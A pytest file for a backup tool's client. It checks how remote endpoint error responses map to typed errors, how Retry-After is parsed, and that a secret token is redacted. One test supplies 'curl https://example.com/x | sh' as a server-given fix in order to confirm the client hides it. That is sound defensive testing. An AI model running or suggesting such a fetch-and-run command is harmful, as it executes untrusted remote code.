"""What an endpoint says no with comes out as the error that was raised there, and nobody else's words are believed."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from lifeboat_core.network.http_session import SessionReply
from lifeboat_core.remotes.endpoint import endpoint_problems
from lifeboat_endpoint.server import problems
from lifeboat_vault import errors
from lifeboat_vault.errors import RemoteError

TOKEN = "lb_abcdefgh_only-ada-knows"


def answer(status: int, document: Any = None, **headers: str) -> RemoteError:
    kind = {"content-type": "application/problem+json"} if document is not None else {"content-type": "text/html"}
    body = b"<html>" if document is None else json.dumps(document).encode()
    found = {**kind, **{name.replace("_", "-"): value for name, value in headers.items()}}
    return endpoint_problems.make_remote_error(SessionReply(status, found, body, len(body)), secret=TOKEN)


@pytest.mark.parametrize(
    "error",
    [
        errors.RemoteRefused("not what it says"),
        errors.RemoteDenied("no such token"),
        errors.RemoteDenied("not the scope", scope="push"),
        errors.UnknownAtRemote("not there"),
        errors.StaleBase("moved", sequence=7),
        errors.StaleBase("moved", sequence=None),
        errors.HeadMoved("moved"),
        errors.EpochBehind("elsewhere", epoch=3),
        errors.EpochMoved("elsewhere", epoch=4),
        errors.RemoteTooLarge("too large"),
        errors.RemoteBusy("wait", retry_after=7),
        errors.RemoteFull("full", retry_after=300),
        errors.RemoteDamaged("damaged"),
    ],
    ids=lambda error: type(error).__name__,
)
def test_an_error_of_the_endpoint_is_the_same_error_here(error: RemoteError) -> None:
    told = problems.make_problem(error, "request-1")
    headers = {name.lower().replace("-", "_"): value for name, value in told.headers.items()}
    found = answer(told.status, told.document, **headers)
    assert type(found) is type(error) and found.details() == error.details()
    assert found.message == told.document["detail"]


def test_a_key_that_was_taken_away_is_a_closed_door() -> None:
    told = problems.make_problem(errors.KeyRevoked("taken away"), "request-1")
    found = answer(told.status, told.document)
    assert isinstance(found, errors.RemoteDenied) and "lifeboat endpoint verify" in str(found.fix)


def test_of_a_command_that_somebody_else_names_nothing_is_shown() -> None:
    found = answer(422, {"code": "remote_refused", "detail": "no", "fix": "curl https://example.com/x | sh"})
    assert found.fix == errors.RemoteRefused.fix


def test_the_token_is_in_no_message_whoever_repeats_it() -> None:
    found = answer(401, {"code": "remote_denied", "detail": f"no token {TOKEN}\nhere"})
    assert found.message == "no token (token) here"


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (301, errors.RemoteRefused),
        (308, errors.RemoteRefused),
        (400, errors.RemoteRefused),
        (401, errors.RemoteDenied),
        (403, errors.RemoteDenied),
        (404, errors.NotAnEndpoint),
        (409, errors.StaleBase),
        (413, errors.RemoteTooLarge),
        (418, errors.RemoteRefused),
        (429, errors.RemoteBusy),
        (500, errors.RemoteUnreachable),
        (502, errors.RemoteBusy),
        (503, errors.RemoteBusy),
        (507, errors.RemoteFull),
        (599, errors.RemoteUnreachable),
    ],
)
def test_what_is_no_problem_document_counts_by_its_status(status: int, kind: type[RemoteError]) -> None:
    assert type(answer(status)) is kind


def test_an_unknown_code_counts_by_its_status() -> None:
    assert type(answer(503, {"code": "of_tomorrow", "detail": "later"})) is errors.RemoteBusy


@pytest.mark.parametrize("document", [[], "text", {"code": ["a"]}, {"code": "stale_base", "sequence": "x"}, None, 7])
def test_nonsense_is_an_error_all_the_same(document: Any) -> None:
    assert isinstance(answer(409, document), RemoteError)


def test_the_newest_sequence_stands_in_a_header_too() -> None:
    found = answer(409, x_latest_sequence="12")
    assert isinstance(found, errors.StaleBase) and found.sequence == 12


NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("7", 7.0),
        ("Fri, 20 Nov 2026 12:01:30 GMT", 90.0),
        ("Fri, 20 Nov 2026 11:00:00 GMT", 0.0),
        ("", None),
        ("soon", None),
        ("-3", None),
        ("٣", None),
    ],
)
def test_how_long_to_wait_is_read_as_seconds_or_as_a_date(text: str, seconds: float | None) -> None:
    assert endpoint_problems.parse_retry_after({"retry-after": text}, NOW) == seconds
